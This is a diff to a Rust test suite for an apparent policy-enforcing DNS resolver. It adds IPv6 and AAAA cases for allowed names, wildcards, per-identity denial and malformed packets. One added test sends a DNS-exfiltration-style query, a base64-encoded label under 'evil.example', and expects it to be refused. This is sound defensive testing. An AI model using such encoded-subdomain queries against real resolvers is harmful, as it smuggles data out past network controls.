@@ -150,21 +150,25 @@ fn allowed_name_resolves_then_connects_over_udp_tcp_v4_and_v6() {
 
 #[test]
 fn refused_names_exfiltration_and_other_identities() {
-    let _veth = Veth::new("ztdns2", &["10.231.2.1/24"]);
+    let _veth = Veth::new("ztdns2", &["10.231.2.1/24", "fd00:231:2::1/64"]);
     let up = Dnsmasq::start(
         "refused",
         &[
             ("10.231.2.1", "shared.dns-r.test"),
+            ("fd00:231:2::1", "shared.dns-r.test"),
             ("10.231.2.1", "evil.example"),
+            ("fd00:231:2::1", "evil.example"),
         ],
         60,
     );
     let srv = TcpServer::new("10.231.2.1");
+    let srv6 = TcpServer::new("fd00:231:2::1");
     let policy = identity(
         "dns-r1",
         "enforce",
         "",
-        &names_rule(&["shared.dns-r.test"], srv.port),
+        &(names_rule(&["shared.dns-r.test"], srv.port)
+            + &names_rule(&["shared.dns-r.test"], srv6.port)),
     ) + "---\n"
         + &identity(
             "dns-r2",
@@ -213,6 +217,27 @@ fn refused_names_exfiltration_and_other_identities() {
     assert_eq!(answers(&a), ["10.231.2.1"], "{a}");
     assert_eq!(tcp(&d, "dns-r1", "10.231.2.1", srv.port), OK);
     assert_eq!(tcp(&d, "dns-r2", "10.231.2.1", srv.port), DENIED);
+    // The same over IPv6: AAAA, an IPv6 socket, an IPv6 destination.
+    let e6 = dns(
+        &d,
+        "dns-r1",
+        "udp",
+        SOME_RESOLVER6,
+        "bWFpbA.evil.example",
+        "AAAA",
+    );
+    assert_eq!(e6["rcode"], "REFUSED", "{e6}");
+    let a6 = dns(
+        &d,
+        "dns-r1",
+        "udp",
+        SOME_RESOLVER6,
+        "shared.dns-r.test",
+        "AAAA",
+    );
+    assert_eq!(answers(&a6), ["fd00:231:2::1"], "{a6}");
+    assert_eq!(tcp(&d, "dns-r1", "fd00:231:2::1", srv6.port), OK);
+    assert_eq!(tcp(&d, "dns-r2", "fd00:231:2::1", srv6.port), DENIED);
     // dns-r2 may not resolve that name itself either.
     let r2 = dns(
         &d,
@@ -336,7 +361,7 @@ fn ttls_are_clamped_to_the_maximum() {
 
 #[test]
 fn wildcards_match_subdomains_and_not_the_parent() {
-    let _veth = Veth::new("ztdns5", &["10.231.5.1/24"]);
+    let _veth = Veth::new("ztdns5", &["10.231.5.1/24", "fd00:231:5::1/64"]);
     let up = Dnsmasq::start(
         "wild",
         &[
@@ -344,6 +369,8 @@ fn wildcards_match_subdomains_and_not_the_parent() {
             ("10.231.5.1", "x.y.cdn.dns-w.test"),
             ("10.231.5.1", "cdn.dns-w.test"),
             ("10.231.5.1", "evilcdn.dns-w.test"),
+            ("fd00:231:5::1", "a.cdn.dns-w.test"),
+            ("fd00:231:5::1", "cdn.dns-w.test"),
         ],
         60,
     );
@@ -364,6 +391,18 @@ fn wildcards_match_subdomains_and_not_the_parent() {
         let r = dns(&d, "dns-w", "udp", SOME_RESOLVER4, name, "A");
         assert_eq!(r["rcode"], "REFUSED", "{name}: {r}");
     }
+    // The same over IPv6, for AAAA.
+    let a6 = dns(
+        &d,
+        "dns-w",
+        "udp",
+        SOME_RESOLVER6,
+        "a.cdn.dns-w.test",
+        "AAAA",
+    );
+    assert_eq!(answers(&a6), ["fd00:231:5::1"], "{a6}");
+    let r6 = dns(&d, "dns-w", "tcp", SOME_RESOLVER6, "cdn.dns-w.test", "AAAA");
+    assert_eq!(r6["rcode"], "REFUSED", "{r6}");
 }
 
 #[test]
@@ -467,6 +506,13 @@ fn malformed_packets_do_not_crash_the_resolver() {
         assert_ne!(code, OK, "{hex}: {out}");
         assert!(out.contains("no reply"), "{hex}: {out}");
     }
+    // Over IPv6 too.
+    let (code, out) = d.run(
+        "dns-m",
+        &["dns-raw", SOME_RESOLVER6, "abcd01000001000000000000036f6b"],
+    );
+    assert_eq!(code, OK, "{out}");
+    assert!(out.contains("rcode=1"), "{out}");
     // Garbage with a header: FORMERR.
     let (code, out) = d.run("dns-m", &["dns-raw", SOME_RESOLVER4, &"41".repeat(400)]);
     assert_eq!(code, OK, "{out}");
@@ -475,7 +521,7 @@ fn malformed_packets_do_not_crash_the_resolver() {
     let a = dns(&d, "dns-m", "udp", SOME_RESOLVER4, "ok.dns-m.test", "A");
     assert_eq!(answers(&a), ["10.231.6.1"], "{a}");
     assert!(
-        d.metric("zt_agent_dns_queries_total{identity=\"dns-m\",result=\"malformed\"}") >= 4.0,
+        d.metric("zt_agent_dns_queries_total{identity=\"dns-m\",result=\"malformed\"}") >= 6.0,
         "{}",
         d.metrics()
     );
